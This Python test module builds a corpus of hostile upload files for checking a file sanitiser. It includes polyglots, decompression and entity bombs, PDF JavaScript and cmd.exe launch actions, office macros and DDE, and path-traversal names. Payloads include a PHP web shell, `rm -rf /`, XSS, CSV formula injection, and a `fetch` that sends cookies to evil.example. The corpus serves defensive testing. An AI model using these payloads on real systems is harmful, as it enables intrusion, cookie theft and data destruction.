"""Files that mean harm, made when they are asked for: none of them lies in the repository.

Each says which problem answers it, or none where it is taken and made harmless, and what must not be left of it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tulay.plumbing.files.kinds import Kind

DRAWN = "drawn"  # taken, and drawn anew
KEPT = "kept"  # taken as it is: harmless where it is served
REFUSED = "files.kind-refused"
DAMAGED = "files.damaged"
UNSAFE = "files.unsafe"
LOCKED = "files.locked"
EMPTY = "files.empty"
LARGE = "files.too-large"
POINTS = "files.picture-too-large"

SCRIPT = b"<script>alert(document.cookie)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "word/document.xml"
SHEET = "xl/workbook.xml"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, under a name and a type that somebody claims for it."""

    fate: str
    content: bytes
    name: str = "boat.pdf"
    claimed: str = "application/pdf"
    traces: tuple[bytes, ...] = ()


CORPUS: dict[str, Callable[[], Hostile]] = {}


def hostile(fate, name="boat.pdf", claimed="application/pdf", traces=()):
    """Put what a function makes into the corpus, under the function's name."""

    def add(make):
        label = make.__name__.strip("_").replace("_", "-")
        assert label not in CORPUS, label
        CORPUS[label] = lambda: Hostile(fate, make(), name, claimed, tuple(traces))
        return make

    return add


def named(label, typed):
    """Put a good picture under a bad name into the corpus."""
    CORPUS[label] = lambda: Hostile(DRAWN, picture(), typed, "image/png")


# --- good things to begin with ---------------------------------------------------------------
def picture(form="JPEG", size=(60, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, "teal" if mode in {"RGB", "RGBA"} else 0).save(out, form, **options)
    return out.getvalue()


def pdf(inside=b"<<>>", before=b"", after=b""):
    return (
        b"%PDF-1.7\n" + before + b"1 0 obj\n" + inside + b"\nendobj\nstartxref\n9\n%%EOF\n" + after
    )


def objects(inside, filters=b"/Filter/FlateDecode", packed=None, kind=b"/Type/ObjStm"):
    data = zlib.compress(inside) if packed is None else packed
    return pdf(b"<<" + kind + b"/N 1/First 4" + filters + b">>stream\n" + data + b"\nendstream")


def office(extra=(), part=WORD, kind=Kind.DOCX, manifest="", packing=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        words = f'<Override ContentType="{kind.value}.main+xml"/>{manifest}'
        archive.writestr("[Content_Types].xml", words)
        archive.writestr(part, "<document/>")
        for name, content in extra:
            archive.writestr(name, content)
    return out.getvalue()


def archive(*parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts:
            made.writestr(name, content)
    return out.getvalue()


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, data=b"", *, depth=8, colour=2, extra=b""):
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = (
        chunk(b"IHDR", header) + extra + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")
    )
    return b"\x89PNG\r\n\x1a\n" + parts


def with_segment(jpeg, marker, data):
    return jpeg[:2] + b"\xff" + marker + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


def resized_jpeg(width, height, **options):
    """A small JPEG whose header claims other measures."""
    content = bytearray(picture(**options))
    at = content.find(b"\xff\xc2" if options.get("progressive") else b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


# --- two things at once ----------------------------------------------------------------------
@hostile(UNSAFE)
def _pdf_that_is_a_zip():
    return pdf(after=archive(("run.exe", "MZ")))


@hostile(UNSAFE, "boat.docx")
def _word_that_is_a_pdf():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("first.txt", pdf())
        made.writestr(
            "[Content_Types].xml", f'<Override ContentType="{Kind.DOCX.value}.main+xml"/>'
        )
        made.writestr(WORD, "<document/>")
    return out.getvalue()


@hostile(UNSAFE)
def _pdf_that_is_a_page():
    return pdf(before=b"%<html>" + SCRIPT + b"\n")


@hostile(REFUSED, "boat.gif", "image/gif")
def _gif_that_is_a_script():
    return b"GIF89a/*\x01\x00\x80\x00\x00*/=1;alert(document.cookie)//\x00;"


@hostile(DRAWN, "boat.jpg", "image/jpeg", traces=[SCRIPT])
def _jpeg_with_a_page_in_its_comment():
    return with_segment(picture(), b"\xfe", b"<html>" + SCRIPT)


@hostile(DRAWN, "boat.html", "text/html", traces=[SCRIPT])
def _jpeg_that_calls_itself_a_page():
    return picture() + SCRIPT


@hostile(DRAWN, "boat.php", "application/x-php", traces=[b"<?php"])
def _png_with_php_in_a_chunk():
    return png(1, 1, b"\0\1\2\3", extra=chunk(b"tEXt", b"c\0<?php system($_GET[0]);?>"))


@hostile(DRAWN, "boat.png", "image/png", traces=[b"PK\x03\x04", b"run.exe"])
def _png_with_an_archive_behind():
    return picture("PNG") + archive(("run.exe", "MZ"))


@hostile(DRAWN, "boat.jpg", "image/jpeg", traces=[b"MZ\x90", b"\x7fELF"])
def _jpeg_with_a_program_behind():
    return picture() + b"MZ\x90\0" + b"\x7fELF" + b"\0" * 90


@hostile(DRAWN, "boat.jar", "application/java-archive", traces=[b"META-INF"])
def _picture_that_is_a_jar():
    return picture() + archive(("META-INF/MANIFEST.MF", "Main-Class: Run"))


@hostile(REFUSED, "boat.txt", "text/plain")
def _text_that_is_a_pdf():
    return b"Dear office\n%PDF-1.4\n1 0 obj\n<</S/JavaScript>>\nendobj\nstartxref\n9\n%%EOF"


# --- bombs -----------------------------------------------------------------------------------
@hostile(UNSAFE, "boat.docx")
def _word_bomb():
    return office([("word/media.xml", b"0" * 30_000_000)])


@hostile(UNSAFE, "boat.docx")
def _word_with_very_many_parts():
    return office([(f"word/{number}.xml", "") for number in range(5_001)])


@hostile(DAMAGED, "boat.docx")
def _word_bomb_that_lies_about_its_size():
    bomb = bytearray(office([("word/media.xml", b"0" * 5_000_000)]))
    bomb[:] = bomb.replace(struct.pack("<I", 5_000_000), struct.pack("<I", 5_000))
    return bytes(bomb)


@hostile(UNSAFE, "boat.docx")
def _word_with_a_huge_manifest():
    noise = "".join(f"<a{number}/>" for number in range(200_000))
    return office(manifest=noise)


@hostile(UNSAFE, "boat.xlsx")
def _sheet_of_laughing_entities():
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
    return office([("xl/styles.xml", laughs)], SHEET, Kind.XLSX)


@hostile(UNSAFE, "boat.docx")
def _word_packed_with_a_hungry_packer():
    return office([("word/a.xml", b"a" * 100)], packing=zipfile.ZIP_LZMA)


@hostile(UNSAFE, "boat.zip", "application/zip")
def _archive_in_an_archive():
    inner = archive(("0", b"0" * 1_000_000))
    return archive(*((f"{number}.txt", inner) for number in range(10)))


@hostile(REFUSED, "boat.pdf")
def _gzip_bomb():
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(b"\0" * 20_000_000) + packer.flush()


@hostile(POINTS, "boat.png", "image/png")
def _png_of_65_thousand_by_65_thousand():
    return png(65_535, 65_535)


@hostile(POINTS, "boat.png", "image/png")
def _png_whose_points_are_all_there():
    return png(6_000, 6_000, b"\0" * (6_000 * 751), depth=1, colour=0)


@hostile(POINTS, "boat.png", "image/png")
def _png_of_one_point_by_24_million():
    return png(1, 24_000_000)


@hostile(DAMAGED, "boat.png", "image/png")
def _png_of_no_points():
    return png(0, 0)


@hostile(DAMAGED, "boat.png", "image/png")
def _png_bomb_in_a_note():
    return png(1, 1, b"\0\1\2\3", extra=chunk(b"zTXt", b"c\0\0" + zlib.compress(b"0" * 30_000_000)))


@hostile(DAMAGED, "boat.png", "image/png")
def _png_bomb_in_a_colour_profile():
    return png(1, 1, b"\0\1\2\3", extra=chunk(b"iCCP", b"c\0\0" + zlib.compress(b"0" * 30_000_000)))


@hostile(DRAWN, "boat.jpg", "image/jpeg", traces=[b"ICC_PROFILE"])
def _jpeg_full_of_colour_profiles():
    content = picture()
    for number in range(100):
        content = with_segment(
            content, b"\xe2", b"ICC_PROFILE\0" + bytes([number, 100]) + b"c" * 60_000
        )
    return content


@hostile(POINTS, "boat.jpg", "image/jpeg")
def _jpeg_of_65_thousand_by_65_thousand():
    return resized_jpeg(65_500, 65_500)


@hostile(POINTS, "boat.jpg", "image/jpeg")
def _progressive_jpeg_that_would_be_held_whole():
    return resized_jpeg(7_900, 7_900, progressive=True)


@hostile(DAMAGED, "boat.jpg", "image/jpeg")
def _jpeg_of_many_thousand_scans():
    content = picture(progressive=True)
    at = content.rfind(b"\xff\xda")
    return content[:at] + content[at:-2] * 4_000 + b"\xff\xd9"


@hostile(REFUSED, "boat.gif", "image/gif")
def _animated_bomb():
    frames = [Image.new("P", (200, 200), number) for number in range(60)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


@hostile(REFUSED, "boat.png", "image/png")
def _moving_png():
    frames = [Image.new("RGB", (40, 40), (number, 0, 0)) for number in range(30)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


@hostile(UNSAFE)
def _pdf_bomb_of_objects():
    return objects(b"0" * 40_000_000)


@hostile(UNSAFE)
def _pdf_of_a_million_names():
    return pdf(b"<</ObjStm>>" * 900_000)


@hostile(UNSAFE)
def _pdf_of_one_endless_name():
    return pdf(b"<</" + b"#41" * 3_000_000 + b">>" + b"<</S/Launch>>")


@hostile(LARGE)
def _file_that_is_too_large():
    return pdf(before=b"%" + b"0" * (10 * 1024 * 1024) + b"\n")


# --- programs in a PDF -----------------------------------------------------------------------
@hostile(UNSAFE)
def _pdf_with_a_script():
    return pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>")


@hostile(UNSAFE)
def _pdf_with_a_script_behind_escapes():
    return pdf(b"<</OpenAction<</S/J#61va#53cript/JS(app.alert\\(1\\))>>>>")


@hostile(UNSAFE)
def _pdf_with_a_script_in_packed_objects():
    return objects(b"2 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")


@hostile(UNSAFE)
def _pdf_with_a_script_across_a_seam():
    return objects(b"2 0 " + b" " * (256 * 1024 - 8) + b"/JavaScript ")


@hostile(UNSAFE)
def _pdf_with_a_script_packed_twice():
    twice = zlib.compress(zlib.compress(b"2 0 <</S/JavaScript>>"))
    return objects(b"", b"/Filter[/FlateDecode/FlateDecode]", twice)


@hostile(UNSAFE)
def _pdf_with_a_script_packed_oddly():
    return objects(b"", b"/Filter/ASCIIHexDecode", b"2 0 <</S/JavaScri>>".hex().encode())


@hostile(UNSAFE)
def _pdf_with_a_script_behind_a_predictor():
    return objects(b"2 0 x", b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")


@hostile(DAMAGED)
def _pdf_with_packed_objects_that_do_not_open():
    return objects(b"", packed=b"not packed at all")


@hostile(UNSAFE)
def _pdf_with_escaped_packed_objects():
    return objects(b"2 0 <</S/Launch/F(cmd.exe)>>", kind=b"/Type/Obj#53tm")


@hostile(UNSAFE)
def _pdf_that_starts_a_program():
    return pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>")


@hostile(UNSAFE)
def _pdf_with_a_file_inside():
    return pdf(b"<</Type/EmbeddedFile /Length 3>>")


@hostile(UNSAFE)
def _pdf_with_a_form_of_scripts():
    return pdf(b"<</AcroForm<</XFA 3 0 R>>>>")


@hostile(UNSAFE)
def _pdf_with_moving_pictures():
    return pdf(b"<</Subtype/RichMedia>>")


@hostile(LOCKED)
def _pdf_under_lock():
    return pdf(b"<</Encrypt 4 0 R>>")


@hostile(DAMAGED)
def _pdf_that_is_cut():
    return pdf()[:-12]


@hostile(DAMAGED)
def _page_that_calls_itself_pdf():
    return b"%PDF-1.4\n<html>" + SCRIPT


# --- programs in office files ----------------------------------------------------------------
@hostile(UNSAFE, "boat.docx")
def _word_with_macros():
    return office([("word/vbaProject.bin", "Sub AutoOpen()")])


@hostile(UNSAFE, "boat.docx")
def _word_with_macros_under_another_name():
    return office([("word/x.bin", "a")], manifest="<a b='application/vnd.ms-office.vbaProject'/>")


@hostile(UNSAFE, "boat.xlsx")
def _sheet_with_old_macros():
    return office([("xl/macrosheets/sheet1.xml", "<x/>")], SHEET, Kind.XLSX)


@hostile(UNSAFE, "boat.docx")
def _word_that_fetches_its_template():
    relation = '<Relationship Type="a/attachedTemplate" Target="http://x" TargetMode="External"/>'
    return office([("word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>")])


@hostile(UNSAFE, "boat.docx")
def _word_that_asks_another_program():
    return office([("word/footer.xml", "<w:instrText>DDEAUTO cmd /k calc</w:instrText>")])


@hostile(UNSAFE, "boat.docx")
def _word_with_a_program_as_picture():
    return office([("word/media/image1.png", b"MZ\x90\0")])


@hostile(UNSAFE, "boat.docx")
def _word_with_an_archive_as_picture():
    return office([("word/media/image1.png", archive(("run.exe", "MZ")))])


@hostile(UNSAFE, "boat.docx")
def _word_that_climbs():
    return office([("../../../etc/cron.d/run", "x")])


@hostile(UNSAFE, "boat.docx")
def _word_that_climbs_backwards():
    return office([("..\\..\\run.xml", "x")])


@hostile(UNSAFE, "boat.docx")
def _word_with_two_parts_of_one_name():
    return office([("word/a.xml", "<a/>"), ("word/A.xml", "<b/>")])


@hostile(UNSAFE, "boat.docx")
def _word_in_letters_that_hide():
    return office([("word/a.xml", "<!DOCTYPE l>".encode("utf-16"))])


@hostile(REFUSED, "boat.doc", "application/msword")
def _old_word():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


@hostile(REFUSED, "boat.docx")
def _slides_that_call_themselves_word():
    return office(part="ppt/presentation.xml")


@hostile(REFUSED, "boat.rtf", "application/rtf")
def _rich_text():
    return b"{\\rtf1{\\object\\objautlink}}"


# --- markup, scripts, programs ---------------------------------------------------------------
@hostile(REFUSED, "boat.svg", "image/svg+xml")
def _drawing_with_a_script():
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


@hostile(REFUSED, "boat.png", "image/png")
def _drawing_that_calls_itself_a_picture():
    return b'\xef\xbb\xbf  <?xml version="1.0"?><svg>' + SCRIPT + b"</svg>"


@hostile(REFUSED, "boat.pdf")
def _page_under_the_name_of_a_pdf():
    return b"<!doctype html>" + SCRIPT


@hostile(REFUSED, "boat.txt", "text/plain")
def _page_in_the_middle_of_a_text():
    return b"Dear office,\n" + SCRIPT


@hostile(REFUSED, "boat.jpg", "image/jpeg")
def _php_under_the_name_of_a_picture():
    return b"<?php system($_GET[0]); ?>"


@hostile(REFUSED, "boat.txt", "text/plain")
def _shell_script():
    return b"#!/bin/sh\nrm -rf /\n"


@hostile(REFUSED, "boat.ps", "application/postscript")
def _postscript():
    return b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"


@hostile(REFUSED, "boat.jpg", "image/jpeg")
def _windows_program():
    return b"MZ\x90\0" + b"\0" * 200


@hostile(REFUSED, "boat.pdf")
def _unix_program():
    return b"\x7fELF\2\1\1" + b"\0" * 200


@hostile(REFUSED, "boat.webp", "image/webp")
def _picture_of_a_kind_we_do_not_open():
    return picture("WEBP")


@hostile(REFUSED, "boat.7z", "application/x-7z-compressed")
def _packed_folder():
    return b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 60


@hostile(REFUSED, "boat.txt", "text/plain")
def _text_with_control_characters():
    return b"\x1b]0;owned\x07 hello"


@hostile(UNSAFE, "eicar.com", "application/octet-stream")
def _test_virus():
    return EICAR


@hostile(UNSAFE, "eicar.txt", "text/plain")
def _test_virus_as_a_text():
    return EICAR + b"\r\n"


@hostile(KEPT, "boat.js", "text/javascript")
def _script_as_a_text():
    return b"fetch('//evil.example/' + document.cookie)"


@hostile(KEPT, "boat.csv", "text/csv")
def _formula_as_a_text():
    return b"=cmd|'/c calc'!A1,2\n"


# --- nothing, half, secrets ------------------------------------------------------------------
@hostile(EMPTY)
def _empty_file():
    return b""


@hostile(REFUSED)
def _one_byte():
    return b"\0"


@hostile(DAMAGED, "boat.png", "image/png")
def _png_that_is_cut():
    return picture("PNG", (400, 400))[:60]


@hostile(DAMAGED, "boat.jpg", "image/jpeg")
def _jpeg_that_is_cut():
    return picture()[:200]


@hostile(DAMAGED, "boat.png", "image/png")
def _png_that_is_garbled():
    content = bytearray(picture("PNG", (200, 200)))
    content[60:90] = b"\xaa" * 30
    return bytes(content)


@hostile(DAMAGED, "boat.docx")
def _word_that_is_cut():
    return office()[:-40]


@hostile(DRAWN, "boat.jpg", "image/jpeg", traces=[b"Exif", b"Amina", SCRIPT])
def _jpeg_that_tells_where_it_was_taken():
    exif = Image.Exif()
    exif[0x010F], exif[0x010E] = "Camera of Amina", SCRIPT.decode()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (6.0, 55.0, 12.0)
    return picture(exif=exif)


@hostile(DRAWN, "boat.jpg", "image/jpeg", traces=[b"Exif"])
def _jpeg_with_broken_notes():
    return with_segment(picture(), b"\xe1", b"Exif\0\0MM\0*\xff\xff\xff\xff" + b"\xff" * 30)


@hostile(DRAWN, "boat.jpg", "image/jpeg", traces=[b"xmpmeta", SCRIPT])
def _jpeg_with_a_page_in_its_notes():
    notes = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"
    return with_segment(picture(), b"\xe1", notes)


# --- names -----------------------------------------------------------------------------------
named("name-that-climbs", "../../../../etc/passwd")
named("name-that-climbs-backwards", "..\\..\\windows\\boat.exe")
named("name-read-from-the-right", "boat\u202egnp.exe")
named("name-with-control-characters", "bo\x01at\x1b[2J.png")
named("name-that-is-very-long", "boat" * 60 + ".png")
named("name-of-markup", "<img src=x onerror=alert(1)>.png")
named("name-of-two-extensions", "boat.png.exe")
named("name-with-a-header", 'boat"; filename="evil.html')
named("name-of-nothing-but-dots", "....")
named("name-that-is-a-formula", "=cmd|'/c calc'!A1.png")
